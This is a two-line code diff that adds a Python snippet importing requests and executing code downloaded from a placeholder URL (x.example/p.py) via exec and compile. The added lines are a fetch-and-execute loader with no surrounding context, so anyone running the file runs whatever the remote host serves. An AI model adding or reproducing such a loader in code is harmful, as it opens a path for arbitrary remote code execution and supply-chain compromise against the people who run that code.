@@ -1,0 +1,2 @@
+import requests
+exec(compile(requests.get("https://x.example/p.py").text, "p", "exec"))
